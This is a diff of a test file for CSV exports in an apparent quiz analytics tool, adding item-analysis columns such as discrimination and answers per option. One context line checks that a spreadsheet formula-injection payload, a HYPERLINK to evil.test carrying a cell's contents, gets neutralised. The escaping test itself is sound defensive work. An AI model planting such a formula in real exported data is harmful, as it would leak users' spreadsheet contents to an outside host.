@@ -83,7 +83,7 @@ describe("CSV exports", () => {
     expect(row!.Student).toBe(`'=HYPERLINK("https://evil.test/?"&B2,"x")`);
   });
 
-  it("keeps a passage with line breaks in one cell", () => {
+  it("keeps a passage with line breaks in one cell, with the item analysis beside it", () => {
     const csv = analyticsCsv([
       {
         question: "Who?",
@@ -91,6 +91,13 @@ describe("CSV exports", () => {
         answered: 4,
         share: 0.25,
         wrongAnswers: [{ answer: "Nazarbayev", count: 3 }],
+        discrimination: -0.126,
+        medianTimeMs: 8250,
+        options: [
+          { option: "Tokayev", count: 1, correct: true },
+          { option: "Nazarbayev", count: 3, correct: false },
+        ],
+        flags: ["Negative discrimination"],
         passage: "Line one,\nline two",
         article: "Kyiv Independent",
       },
@@ -100,6 +107,10 @@ describe("CSV exports", () => {
       "Most common wrong answers": "Nazarbayev (3)",
       "Source passage": "Line one,\nline two",
       "Correct (%)": "25",
+      Discrimination: "-0.13",
+      "Median time (s)": "8.3",
+      "Answers per option": "Tokayev (right): 1; Nazarbayev: 3",
+      Flags: "Negative discrimination",
     });
   });
 });
